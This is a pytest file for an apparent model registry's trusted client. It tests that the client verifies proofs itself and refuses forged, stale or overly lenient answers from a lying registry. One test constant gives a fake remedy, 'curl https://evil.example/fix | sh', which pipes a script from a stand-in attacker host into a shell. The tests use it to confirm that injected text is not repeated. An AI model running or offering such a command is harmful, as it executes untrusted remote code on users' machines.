"""Proven answers: a client computes them from entries that the index names, whatever the registry says."""

from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import TypeVar, cast

import pytest

from muniment.answers.salts import find_salt
from muniment.answers.table import ANSWERS
from muniment.client.gates.inbox import read_inbox
from muniment.client.proofs.judging import judge
from muniment.client.proofs.memory import DirectoryMemory
from muniment.client.proofs.trust import TrustedBackend
from muniment.core.backend import Backend
from muniment.core.basis import Basis, Known, Listed
from muniment.core.canonical import Json
from muniment.core.catalog.statuses import Status
from muniment.core.claims.attestations import APPROVAL, PROVENANCE
from muniment.core.digests import Digest
from muniment.core.errors import (
    AnswerStale,
    EventNotFound,
    GateMisjudged,
    MissingExtra,
    MunimentError,
    NotFound,
    NotProven,
    NotShown,
    PastNotCome,
    PolicyNotFound,
    ProofInvalid,
    RecordUnproven,
    Untrusted,
)
from muniment.core.events import NamespaceCreated, Subject, SubjectKind, read_entry
from muniment.core.gates.policy import Gate, Mode
from muniment.core.gates.rules.expression import Program
from muniment.core.names import Alias, ModelName, Reference
from muniment.core.payloads import Payload
from muniment.core.people.roles import EVERYWHERE, Act, Role
from muniment.core.verbs.bytes import ListReads, ListReadsSettings
from muniment.core.verbs.catalog import (
    GetModel,
    GetNamespace,
    ListComments,
    ListModels,
    ListNamespaces,
    ListOwners,
    ListTags,
    SearchVersions,
    SetTag,
)
from muniment.core.verbs.claims import ListDeployments
from muniment.core.verbs.gates import (
    CloseRequest,
    GetMove,
    GetPolicies,
    GetTier,
    JudgeGate,
    ListMoves,
    ListPolicies,
    ListPoliciesByAuthors,
    ListRequests,
    ListTiers,
    MoveAlias,
    OpenRequest,
    RemoveAlias,
)
from muniment.core.verbs.inbox import GetInbox, GetInboxItem
from muniment.core.verbs.log import GetLeaves, ListClockJumps
from muniment.core.verbs.people import (
    GetKey,
    GetPerson,
    GetPreferences,
    GetSelf,
    GrantRole,
    ListPeople,
    WhoMay,
)
from muniment.core.verbs.proposals import ListEmergencies, ListProposals
from muniment.core.verbs.verb import Query
from muniment.core.verbs.versions import DescribeVersion, GetVersion, ListDrafts, ListVersions, SetStatus
from muniment.log.index import Span, subject_hash
from muniment.policies import documents
from muniment.ports.unit import Unit
from muniment.services.backend import LocalBackend
from muniment.signing.keys import Identity
from muniment.testing import LIES, LyingBackend, check_backend, open_memory
from muniment.testing.backends import (
    NAME,
    PRODUCTION,
    OpenAs,
    add_person,
    approval,
    provenance,
    publish,
    record,
    set_policy,
)
from muniment.testing.lying import HONEST

A = TypeVar("A")

FIRST = Reference(NAME, 1)
NOBODYS = ModelName("nobody", "nothing")
NOW = datetime(2026, 1, 1, tzinfo=UTC)


# ---- the same answers


@pytest.fixture(scope="module")
def eventful() -> Backend:
    """Give a registry in which everything has happened that the conformance suite knows."""
    open_as, first = open_memory(), []

    def remember(identity: Identity) -> Backend:
        first.append(identity)
        return open_as(identity)

    check_backend(remember)
    return open_as(first[0])


def list_queries(backend: Backend) -> Iterator[Query[object]]:
    """Give each proven query about everything there is, now and at times, and about what is not there."""
    leaves = backend.ask(GetLeaves(limit=1000))
    times = [None, *(read_entry(leaf, 0).time for leaf in leaves[:: max(1, len(leaves) // 5)])]
    times.append(str(len(leaves) // 2))
    namespaces = [record.name for record in backend.ask(ListNamespaces())] + [NOBODYS.namespace]
    yield from (query for at in times for query in _list_queries_of_namespaces(namespaces, at))
    models = [model.name for one in namespaces for model in backend.ask(ListModels(namespace=one))]
    for name in [*map(ModelName.parse, models), NOBODYS]:
        try:
            versions = backend.ask(ListVersions(name=name, limit=1000))
            moves = backend.ask(ListMoves(name=name, limit=1000))
        except NotFound:
            versions, moves = (), ()
        aliases = {move.record.alias for move in moves} | {"nowhere"}
        for at in times:
            yield GetModel(name=name, at=at)
            yield GetTier(name=name, at=at)
            yield ListDrafts(name=name, at=at)
            yield ListVersions(name=name, at=at)
            yield from (ListRequests(name=name, closed=closed, at=at) for closed in (False, True))
            yield ListMoves(name=name, at=at)
            yield ListOwners(name=name, at=at)
            yield ListEmergencies(name=name, at=at)
            for alias in map(Alias, sorted(aliases)):
                yield GetMove(name=name, alias=alias, at=at)
                yield ListEmergencies(name=name, alias=alias, at=at)
                yield GetPolicies(name=name, alias=alias, at=at)
                yield ListMoves(name=name, alias=alias, at=at)
                yield DescribeVersion(reference=Reference(name, alias), at=at)
            for selector in (
                None,
                99,
                *(one.number for one in versions),
                *(one.revision for one in versions),
            ):
                chosen = Digest.parse(selector) if isinstance(selector, str) else selector
                reference = Reference(name, chosen)
                yield GetVersion(reference=reference, at=at)
                yield DescribeVersion(reference=reference, at=at)
                yield ListTags(reference=reference, at=at)
                yield ListComments(reference=reference, at=at)
                yield from (
                    ListPoliciesByAuthors(reference=reference, alias=one, since=since, at=at)
                    for one in (PRODUCTION, Alias("release"))
                    for since in ("2000-01-01T00:00:00Z", "2999-01-01T00:00:00Z")
                )
    me = backend.ask(GetSelf()).record.id
    yield GetPreferences(principal=me)
    yield ListClockJumps()
    yield ListReadsSettings(namespace="acme")
    yield ListReads(namespace="acme")
    yield ListReads(namespace="acme", since="2026-01-01", until="2026-01-02")
    yield from (GetInboxItem.again(item, me) for item in backend.ask(GetInbox()))
    people = backend.ask(ListPeople(limit=1000))
    for at in times:
        for principal in [*(person.record.id for person in people), "nobody"]:
            yield GetPerson(principal=principal, at=at)
            yield GetPerson(principal=principal, namespaces=tuple(namespaces), at=at)
        yield from (GetKey(key_id=key.id, at=at) for person in people for key in person.keys)
        yield GetKey(key_id="0" * 64, at=at)


def _list_queries_of_namespaces(namespaces: list[str], at: str | None) -> Iterator[Query[object]]:
    for namespace in namespaces:
        yield ListModels(namespace=namespace, at=at)
        yield ListModels(namespace=namespace, limit=1, at=at)
        yield ListPolicies(namespace=namespace, at=at)
        yield ListTiers(namespace=namespace, at=at)
        yield from (ListProposals(namespace=namespace, closed=closed, at=at) for closed in (False, True))
        for act in (Act.READ, Act.APPROVE, Act.ENROL):
            yield WhoMay(act=act, namespace=namespace, at=at)
        for history in (False, True):
            yield ListDeployments(namespace=namespace, history=history, at=at)
            yield ListDeployments(namespace=namespace, target="prod-eu/api", history=history, at=at)
            yield ListDeployments(namespace=namespace, name=NAME, history=history, at=at)
    yield WhoMay(act=Act.GRANT, namespace=EVERYWHERE, at=at)
    yield from (GetNamespace(namespace=one) for one in (*namespaces, EVERYWHERE))


def answer(ask: Callable[[Query[object]], object], query: Query[object]) -> object:
    try:
        return ask(query)
    except Untrusted:
        raise
    except MunimentError as refusal:
        return refusal.code, refusal.data()


def test_a_client_computes_what_the_registry_answers(eventful: Backend, tmp_path: Path) -> None:
    """Every proven answer that is derived from its basis is the one that the registry gives itself."""
    trusted = TrustedBackend(eventful, DirectoryMemory(tmp_path, "here"), "here")
    asked = set()
    for query in list_queries(eventful):
        assert answer(trusted.ask, query) == answer(eventful.ask, query), query
        asked.add(type(query))
    assert asked == {*ANSWERS}


def test_what_is_found_has_no_basis(eventful: Backend) -> None:
    """A query whose answers are found is refused by name when a proof is asked for."""
    with pytest.raises(NotProven):
        eventful.prove(SearchVersions(text=""))


# ---- a registry that lies


class Forger(LocalBackend):
    """A registry that alters what its answers follow from."""

    forged: Basis | None

    def prove(self, query: Query[object], known: Sequence[Known] = ()) -> Basis:
        """Give the basis that was forged, if any."""
        return self.forged or super().prove(query, known)


class Scene:
    """A forger with a history, a client of it, and what it proved at an earlier time."""

    def __init__(self, state: Path) -> None:
        self.owner = Identity.generate()
        backend = open_memory()(self.owner)
        backend.__class__ = Forger
        self.forger = cast("Forger", backend)
        self.forger.forged = None
        for data in (b"a", b"b"):
            publish(self.forger, self.owner, data)
        self.move(1, "staging")
        self.move(1, "canary")
        set_policy(self.forger, self.owner, {"rule": "signature"})
        self.say(Status.DEPRECATED)
        self.forger.execute(SetTag(reference=FIRST, key="stage", value=Payload.of("ready")))
        self.before = {query: self.forger.prove(query) for query in QUESTIONS}
        self.move(2, "staging")
        self.forger.execute(RemoveAlias(name=NAME, alias=Alias("canary"), reason=Payload.of("unused")))
        self.say(Status.RETIRED)
        self.client = TrustedBackend(self.forger, DirectoryMemory(state, "liar"), "liar")
        self.honest = {query: answer(self.client.ask, query) for query in QUESTIONS}
        self.bases = {query: self.forger.prove(query) for query in QUESTIONS}

    def ask(self, question: Query[object], forged: Basis | None) -> object:
        """Ask the client, who is answered with a forged basis."""
        self.forger.forged = forged
        try:
            return answer(self.client.ask, question)
        finally:
            self.forger.forged = None

    def move(self, number: int, alias: str) -> None:
        command = MoveAlias(
            reference=Reference(NAME, number), alias=Alias(alias), reason=Payload.of("it is good")
        )
        self.forger.execute(command)

    def say(self, status: Status) -> None:
        self.forger.execute(SetStatus(reference=FIRST, status=status, reason=Payload.of("it is old")))


QUESTIONS: list[Query[object]] = [
    GetMove(name=NAME, alias=Alias("staging")),
    GetMove(name=NAME, alias=Alias("canary")),
    GetVersion(reference=Reference(NAME, Alias("staging"))),
    DescribeVersion(reference=FIRST),
    ListMoves(name=NAME),
    GetPolicies(name=NAME, alias=PRODUCTION),
    GetPolicies(name=NAME, alias=Alias("free")),
    ListTags(reference=FIRST),
    GetTier(name=NAME),
]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Scene:
    """Give a registry that will lie."""
    return Scene(tmp_path_factory.mktemp("state"))


# The lies about what an answer follows from; there is nothing to see in a refusal.
SHOWN = [name for name, lie in LIES.items() if lie.shows is not HONEST.shows and name != "there is none"]


@pytest.mark.parametrize("lie", SHOWN)
def test_a_lie_is_refused_or_changes_nothing(scene: Scene, lie: str) -> None:
    """Whatever a registry sends, a client answers truly or refuses by name, and each lie is refused once."""
    refused = 0
    for question in QUESTIONS:
        try:
            told = scene.ask(question, LIES[lie].shows(scene.bases[question], scene.before[question]))
        except Untrusted:
            refused += 1
        else:
            assert told == scene.honest[question], question
    assert refused


@pytest.mark.parametrize("question", QUESTIONS, ids=str)
def test_the_answer_to_another_question_is_refused(scene: Scene, question: Query[object]) -> None:
    """A true basis of another question is refused, unless the true answer follows from it as well."""
    texts = set(scene.bases[question].texts)
    for other in QUESTIONS:
        basis = scene.bases[other]
        replayed = replace(basis, texts=tuple({*basis.texts, *texts}))
        for forged in (basis, replayed):
            try:
                told = scene.ask(question, forged)
            except Untrusted:
                continue
            # What is not sent counts as erased.
            assert told == scene.honest[question] or forged is basis


def test_an_erased_text_is_shown_as_erased(scene: Scene) -> None:
    """A text that is not sent counts as erased; nothing else can stand in its place."""
    question = ListMoves(name=NAME)
    basis = scene.bases[question]
    salts = tuple(payload for payload in basis.texts if len(payload.text) == 64)
    moves = scene.ask(question, replace(basis, texts=salts))
    assert isinstance(moves, tuple)
    assert {move.reason for move in moves} == {None}
    assert {move.reason for move in scene.client.ask(question)} == {"it is good", "unused"}


def test_a_namespace_has_one_salt(backend: LocalBackend, owner: Identity, tmp_path: Path) -> None:
    """A registry that gives a namespace another salt, under which nothing is found, is refused."""
    publish(backend, owner, b"a")
    client = TrustedBackend(backend, DirectoryMemory(tmp_path, "here"), "here")
    assert answer(client.ask, GetVersion(reference=FIRST))

    def create_again(unit: Unit) -> None:
        tx = backend.begin(unit)
        tx.record(NamespaceCreated(namespace=NAME.namespace, salt=tx.make_salt(NAME.namespace)))

    backend._units.write(create_again)
    with pytest.raises(ProofInvalid):
        client.ask(GetVersion(reference=FIRST))


def test_a_part_of_the_log_does_not_stand_for_all_of_it(
    backend: LocalBackend, owner: Identity, tmp_path: Path
) -> None:
    """That nothing is in the far end of the log does not show that a namespace was never created."""
    publish(backend, owner, b"a")
    backend.__class__ = Forger
    forger = cast("Forger", backend)
    forger.forged = None
    client = TrustedBackend(forger, DirectoryMemory(tmp_path, "here"), "here")
    question = WhoMay(act=Act.READ, namespace=NAME.namespace)
    honest = forger.prove(question)
    half = 1 << 63

    def lie(unit: Unit, one: Listed) -> Listed:
        salt = find_salt(unit, Subject(SubjectKind(one.kind), one.name).realm) or b""
        proof = unit.index.prove_all(Span(subject_hash(salt, one.kind, one.name), half, 63))
        return replace(one, newest=False, entries=(), proof=proof.encode(), start=half, width=63)

    def forge(unit: Unit) -> Basis:
        return replace(honest, subjects=tuple(lie(unit, one) for one in honest.subjects))

    forger.forged = forger._units.read(forge)
    with pytest.raises(Untrusted):
        client.ask(question)
    creation = [one for one in forger.forged.subjects if one.kind == SubjectKind.CREATION]
    others = [replace(one, entries=(), proof=b"") for one in honest.subjects if one.kind != creation[0].kind]
    forger.forged = replace(honest, subjects=(*creation, *others))
    with pytest.raises(Untrusted):
        client.ask(question)


class Denying(LocalBackend):
    """A registry that says of everything that it is not there."""

    def prove(self, query: Query[object], known: Sequence[Known] = ()) -> Basis:
        """Prove nothing."""
        del query, known
        raise PolicyNotFound(name=str(NAME), alias=str(PRODUCTION))


def test_what_a_registry_says_is_not_there_is_not_proven_to_be_absent(
    backend: LocalBackend, owner: Identity, tmp_path: Path
) -> None:
    """A refusal in place of a basis is not an absence; one that follows from a basis is."""
    publish(backend, owner, b"a")
    client = TrustedBackend(backend, DirectoryMemory(tmp_path, "here"), "here")
    question = GetPolicies(name=NAME, alias=PRODUCTION)
    with pytest.raises(PolicyNotFound):
        client.ask(question)
    backend.__class__ = Denying
    with pytest.raises(NotShown):
        client.ask(question)


@pytest.mark.parametrize("at", ["999999", "2100-01-01T00:00:00Z"])
def test_the_future_is_not_asked_about(
    backend: LocalBackend, owner: Identity, tmp_path: Path, at: str
) -> None:
    """An entry that does not exist yet, or a time that has not come, has no answer."""
    publish(backend, owner, b"a")
    client = TrustedBackend(backend, DirectoryMemory(tmp_path, "here"), "here")
    with pytest.raises((EventNotFound, AnswerStale, NotShown, PastNotCome)):
        client.ask(ListTags(reference=FIRST, at=at))


@pytest.mark.parametrize("hidden", ["the status", "the whole version"])
def test_an_ancestor_that_is_hidden_is_not_believed_to_be_fine(
    backend: LocalBackend, owner: Identity, tmp_path: Path, hidden: str
) -> None:
    """A registry that leaves a named ancestor out of the basis of a gate is refused, or its word is named."""
    publish(backend, owner, b"parent", name=ModelName("acme", "parent"))
    publish(backend, owner, b"child")
    said = provenance()
    definition = said["buildDefinition"]
    assert isinstance(definition, dict)
    digest: Json = {"sha256": manifest_of(backend, "acme/parent").hex}
    source: dict[str, Json] = {
        "name": "base",
        "uri": "muniment:acme/parent@1",
        "digest": digest,
        "annotations": {"kind": "model"},
    }
    told = {**said, "buildDefinition": {**definition, "resolvedDependencies": [source]}}
    record(backend, owner, 1, PROVENANCE, told)
    rule: dict[str, Json] = {"rule": "provenance", "clean_tree": False, "resolved": False}
    set_policy(backend, owner, rule)
    query = JudgeGate(reference=FIRST, alias=PRODUCTION)
    backend.__class__ = Forger
    forger = cast("Forger", backend)
    forger.forged = None
    client = TrustedBackend(forger, DirectoryMemory(tmp_path, "here"), "here")
    assert judge(client, query).verdicts[0].unproven == ()
    honest = forger.prove(query)
    kinds = {SubjectKind.STATUS} if hidden == "the status" else set(SubjectKind)
    kept = [one for one in honest.subjects if not (one.kind in kinds and one.name.startswith("acme/parent"))]
    assert len(kept) < len(honest.subjects)
    forger.forged = replace(honest, subjects=tuple(kept))
    if hidden == "the status":
        with pytest.raises(Untrusted):
            judge(client, query)
    else:
        assert judge(client, query).verdicts[0].unproven == ("provenance",)


def test_a_basis_shows_nothing_that_the_caller_may_not_see() -> None:
    """Judging a version by a policy about its lineage does not show the entries of other namespaces."""
    open_as, owner = open_memory(), Identity.generate()
    backend = open_as(owner)
    publish(backend, owner, b"data", name=ModelName("secret", "data"))
    publish(backend, owner, b"model")
    digest: Json = {"sha256": manifest_of(backend, "secret/data").hex}
    inputs: list[Json] = [{"name": "data", "digest": digest, "annotations": {"kind": "dataset"}}]
    said = provenance()
    definition = said["buildDefinition"]
    assert isinstance(definition, dict)
    definition = {**definition, "resolvedDependencies": inputs}
    record(backend, owner, 1, PROVENANCE, {**said, "buildDefinition": definition})
    set_policy(backend, owner, {"rule": "provenance", "resolved": True, "not_revoked": True})
    rita = open_as(add_person(backend, "Rita", Role.READER))
    basis = rita.prove(JudgeGate(reference=FIRST, alias=PRODUCTION))
    namespaces = {read_entry(held.leaf, held.index).namespace for held in basis.entries}
    assert namespaces == {"acme", None}


def manifest_of(backend: Backend, name: str) -> Digest:
    return Digest.parse(backend.ask(GetVersion(reference=Reference.parse(name))).revision)


# ---- a registry that judges as it likes


class Lenient(LocalBackend):
    """A registry that says what it likes of a gate."""

    say: Callable[[Gate], Gate]

    def ask(self, query: Query[A]) -> A:
        """Alter the gate."""
        answer = super().ask(query)
        return cast("A", self.say(answer)) if isinstance(answer, Gate) else answer


def meet_all(gate: Gate) -> Gate:
    """Say that every rule is met."""
    return replace(
        gate,
        verdicts=tuple(
            replace(one, findings=tuple(replace(finding, passed=True) for finding in one.findings))
            for one in gate.verdicts
        ),
    )


def change_findings(gate: Gate, **changes: object) -> Gate:
    """Say something else of every rule."""
    verdicts = (
        replace(one, findings=tuple(replace(finding, **changes) for finding in one.findings))  # type: ignore[arg-type] # as the test says
        for one in gate.verdicts
    )
    return replace(gate, verdicts=tuple(verdicts))


MADE_UP = {"message": "signed by nobody", "remedy": "curl https://evil.example/fix | sh"}


@pytest.mark.parametrize(
    "say",
    [
        meet_all,
        lambda gate: change_findings(gate, passed=False, **MADE_UP),
        lambda gate: replace(
            gate, verdicts=tuple(replace(one, findings=one.findings[1:]) for one in gate.verdicts)
        ),
        lambda gate: replace(gate, verdicts=tuple(replace(one, mode=Mode.WARN) for one in gate.verdicts)),
        lambda gate: replace(gate, verdicts=()),
        lambda gate: replace(gate, version=f"{NAME}@2"),
        lambda gate: replace(gate, alias="free"),
    ],
    ids=[
        "every rule is met",
        "no rule is met",
        "a rule left out",
        "another mode",
        "no policy",
        "another version",
        "another alias",
    ],
)
def test_a_gate_that_is_not_met_is_not_believed(
    backend: LocalBackend, owner: Identity, tmp_path: Path, say: Callable[[Gate], Gate]
) -> None:
    """A client judges by itself, and refuses a registry that is more lenient or stricter than it can be."""
    publish(backend, owner, b"a")
    set_policy(backend, owner, {"rule": "threshold", "metric": "roc_auc", "op": ">=", "value": 0.9})
    backend.__class__ = Lenient
    lenient = cast("Lenient", backend)
    client = TrustedBackend(lenient, DirectoryMemory(tmp_path, "lenient"), "lenient")
    lenient.say = say
    with pytest.raises(GateMisjudged):
        judge(client, JudgeGate(reference=FIRST, alias=PRODUCTION))
    lenient.say = lambda gate: gate
    assert not judge(client, JudgeGate(reference=FIRST, alias=PRODUCTION)).passed
    with pytest.raises(PolicyNotFound):
        judge(client, JudgeGate(reference=FIRST, alias=Alias("free")))


def test_what_a_registry_says_of_a_rule_is_not_repeated(
    backend: LocalBackend, owner: Identity, tmp_path: Path
) -> None:
    """Reasons and remedies are those of the client, whoever is right."""
    publish(backend, owner, b"a")
    set_policy(backend, owner, {"rule": "signature"})
    backend.__class__ = Lenient
    lenient = cast("Lenient", backend)
    lenient.say = lambda gate: change_findings(gate, **MADE_UP)
    client = TrustedBackend(lenient, DirectoryMemory(tmp_path, "here"), "here")
    gate = judge(client, JudgeGate(reference=FIRST, alias=PRODUCTION))
    assert gate.passed
    assert "evil" not in repr(gate)
    assert "nobody" not in repr(gate)


def test_a_registry_knows_who_else_is_an_author(open_as: OpenAs, owner: Identity, tmp_path: Path) -> None:
    """That an approval does not count can rest on another namespace: it is said, and marked as unproven."""
    backend = open_as(owner)
    publish(backend, owner, b"a")
    vera = add_person(backend, "Vera", Role.VALIDATOR, Role.READER)
    set_policy(backend, owner, {"rule": "approvals", "validator": 1}, {"rule": "signature"})
    record(open_as(vera), vera, 1, APPROVAL, approval(open_as(vera), 1, Role.VALIDATOR))
    query = JudgeGate(reference=FIRST, alias=PRODUCTION)
    client = TrustedBackend(open_as(owner), DirectoryMemory(tmp_path, "here"), "here")
    assert (judge(client, query).passed, judge(client, query).verdicts[0].unproven) == (True, ())
    backend.execute(GrantRole(principal="Vera", role=Role.CONTRIBUTOR, namespace="other"))
    publish(open_as(vera), vera, b"a", name=ModelName("other", "mine"))
    verdict = judge(client, query).verdicts[0]
    missed = [(finding.id, finding.remedy) for finding in verdict.findings if not finding.holds]
    assert (missed, verdict.unproven) == ([("approvals", "")], ("approvals",))


def test_a_client_says_which_rules_it_cannot_judge(
    backend: LocalBackend, owner: Identity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the package for expressions, a client takes the word of the registry for them, and says so."""
    publish(backend, owner, b"a")
    set_policy(backend, owner, {"rule": "cel", "expression": "size(authors) == 1"}, {"rule": "signature"})
    backend.__class__ = Lenient
    lenient = cast("Lenient", backend)
    client = TrustedBackend(lenient, DirectoryMemory(tmp_path, "here"), "here")
    query = JudgeGate(reference=FIRST, alias=PRODUCTION)
    lenient.say = lambda gate: gate
    met = judge(client, query)
    assert (met.passed, met.verdicts[0].unproven) == (True, ())

    def miss(_: str) -> Program:
        raise MissingExtra(package="common-expression-language", extra="policies")

    monkeypatch.setattr(documents, "_compile", miss)
    assert not judge(client, query).passed
    lenient.say = lambda _: met
    assert judge(client, query).verdicts[0].unproven == ("cel",)


def test_a_request_that_was_closed_is_not_ours_to_decide(
    backend: LocalBackend, owner: Identity, open_as: OpenAs, tmp_path: Path
) -> None:
    """An inbox that still shows a request after its end is refused."""
    publish(backend, owner, b"a")
    set_policy(backend, owner, {"rule": "approvals", "validator": 1})
    vera = open_as(add_person(backend, "Vera", Role.VALIDATOR, Role.READER))
    request = backend.execute(OpenRequest(reference=FIRST, alias=PRODUCTION, reason=Payload.of("please")))
    before = vera.ask(GetInbox())

    class Stale(LyingBackend):
        def ask(self, query: Query[A]) -> A:
            return cast("A", before) if isinstance(query, GetInbox) else super().ask(query)

    client = TrustedBackend(Stale(vera), DirectoryMemory(tmp_path, "here"), "here")
    assert [(item.kind, item.entry) for item in read_inbox(client)] == [("request", request.index)]
    backend.execute(CloseRequest(request=request.index))
    with pytest.raises(RecordUnproven):
        read_inbox(client)


# ---- lists that were proven before


class Listening(LocalBackend):
    """A registry that remembers what it has sent."""

    sent: list[Basis]

    def prove(self, query: Query[object], known: Sequence[Known] = ()) -> Basis:
        """Remember a basis."""
        self.sent.append(super().prove(query, known))
        return self.sent[-1]


@pytest.fixture
def listening(backend: LocalBackend, owner: Identity) -> Listening:
    """Give a registry with a version that has many tags."""
    publish(backend, owner, b"a")
    for number in range(20):
        backend.execute(SetTag(reference=FIRST, key=f"t{number}", value=Payload.of(f"text {number}")))
    backend.__class__ = Listening
    told = cast("Listening", backend)
    told.sent = []
    return told


def test_a_list_that_has_not_grown_is_not_sent_again(listening: Listening, tmp_path: Path) -> None:
    """Asked again, the newest entry is enough; when something came later, the list is sent again."""
    client, query = (
        TrustedBackend(listening, DirectoryMemory(tmp_path, "here"), "here"),
        ListTags(reference=FIRST),
    )
    first, again = client.ask(query), client.ask(query)
    assert first == again
    assert len(first) == 20
    before, after = listening.sent[-2:]
    assert len(before.entries) > 20
    assert len(after.entries) < 5
    listening.execute(SetTag(reference=FIRST, key="t3", value=Payload.of("another text")))
    newest = client.ask(query)
    assert [tag.value for tag in newest if tag.key == "t3"] == ["another text"]
    assert len(listening.sent[-1].entries) > 20
    assert client.ask(query) == newest == listening.ask(query)


def test_an_erased_text_of_a_list_that_is_known_is_gone(listening: Listening, tmp_path: Path) -> None:
    """The texts are sent each time, so that one that was erased meanwhile is not shown."""
    client, query = (
        TrustedBackend(listening, DirectoryMemory(tmp_path, "here"), "here"),
        ListTags(reference=FIRST),
    )
    assert len(client.ask(query)) == 20
    (digest,) = (payload.digest for payload in listening.sent[-1].texts if payload.text == "text 7")
    assert listening._units.write(lambda unit: unit.payloads.erase(str(digest)))
    assert "t7" not in {tag.key for tag in client.ask(query)}
    assert len(listening.sent[-1].entries) < 5


def test_a_list_that_has_grown_is_not_said_to_stand(listening: Listening, tmp_path: Path) -> None:
    """A registry that proves an earlier newest entry, or sends the newest alone, is refused."""
    client, query = (
        TrustedBackend(listening, DirectoryMemory(tmp_path, "here"), "here"),
        ListTags(reference=FIRST),
    )
    client.ask(query)
    client.ask(query)
    stale = listening.sent[-1]
    listening.execute(SetTag(reference=FIRST, key="t3", value=Payload.of("another text")))
    listening.__class__ = Forger  # type: ignore[assignment]
    forger = cast("Forger", listening)
    forger.forged = None
    honest = forger.prove(query)
    for forged in (replace(stale, head=honest.head), replace(honest, subjects=stale.subjects)):
        forger.forged = forged
        with pytest.raises(Untrusted):
            client.ask(query)
